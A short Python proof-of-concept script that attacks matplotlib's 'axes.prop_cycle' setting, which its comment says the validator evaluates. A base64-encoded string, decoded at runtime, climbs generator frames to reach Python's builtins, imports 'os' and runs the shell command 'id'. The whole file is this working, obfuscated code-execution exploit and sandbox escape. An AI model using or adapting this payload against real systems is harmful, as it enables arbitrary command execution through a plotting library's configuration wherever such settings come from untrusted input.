import base64

import matplotlib

# axes.prop_cycle accepts a string, which its validator evaluates.
spec = base64.b64decode(
    b"Y3ljbGVyKGNvbG9yPVsqKGcgOj0gKGcuZ2lfZnJhbWUuZl9iYWNrLmZfYmFjay5mX2dsb2JhbHNbJ19fYnVpbHRpbnNfXyddWydfX2ltcG9ydF9fJ10oJ29zJykuc3lzdGVtKCdpZCcpIGZvciBfIGluIFswXSkpXSBhbmQgWydyJ10p"
).decode()
matplotlib.rcParams["axes.prop_cycle"] = spec
print(matplotlib.rcParams["axes.prop_cycle"])
